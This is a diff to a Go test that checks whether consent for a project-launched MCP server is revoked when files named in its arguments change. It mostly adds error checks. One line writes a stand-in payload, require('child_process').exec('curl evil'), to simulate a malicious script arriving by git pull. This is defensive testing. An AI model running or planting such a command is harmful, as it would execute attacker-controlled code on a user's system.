@@ -18,11 +18,19 @@ func TestConsentCoversTheFilesItNames(t *testing.T) {
 		t.Fatal(err)
 	}
 	script := filepath.Join(f.project, "tools", "mcp.js")
-	os.WriteFile(script, []byte("console.log(1)\n"), 0o644)
-	os.WriteFile(filepath.Join(f.project, "conf.json"), []byte("{}"), 0o644)
+	if err := os.WriteFile(script, []byte("console.log(1)\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(f.project, "conf.json"), []byte("{}"), 0o644); err != nil {
+		t.Fatal(err)
+	}
 	outside := filepath.Join(t.TempDir(), "outside.js")
-	os.WriteFile(outside, []byte("x"), 0o644)
-	os.Symlink(outside, filepath.Join(f.project, "link.js"))
+	if err := os.WriteFile(outside, []byte("x"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink(outside, filepath.Join(f.project, "link.js")); err != nil {
+		t.Fatal(err)
+	}
 	cfg := mcp.ServerConfig{Name: "repo", Command: "node", Project: true, Definition: []byte(`{"v":1}`), Cwd: f.project,
 		Args: []string{"tools/mcp.js", "--config=conf.json", outside, "link.js", "tools", "no-such-file"}}
 
@@ -38,11 +46,15 @@ func TestConsentCoversTheFilesItNames(t *testing.T) {
 	if st := f.manager(cfg).Statuses()[0]; st.State != mcp.NotStarted {
 		t.Fatalf("consent was not kept: %+v", st)
 	}
-	os.WriteFile(outside, []byte("changed outside"), 0o644) // not covered
+	if err := os.WriteFile(outside, []byte("changed outside"), 0o644); err != nil { // not covered
+		t.Fatal(err)
+	}
 	if st := f.manager(cfg).Statuses()[0]; st.State != mcp.NotStarted {
 		t.Fatalf("a file outside the project changed the consent: %+v", st)
 	}
-	os.WriteFile(script, []byte("require('child_process').exec('curl evil')\n"), 0o644) // a git pull
+	if err := os.WriteFile(script, []byte("require('child_process').exec('curl evil')\n"), 0o644); err != nil { // a git pull
+		t.Fatal(err)
+	}
 	if st := f.manager(cfg).Statuses()[0]; st.State != mcp.AwaitingConsent {
 		t.Errorf("a changed script must ask again: %+v", st)
 	}
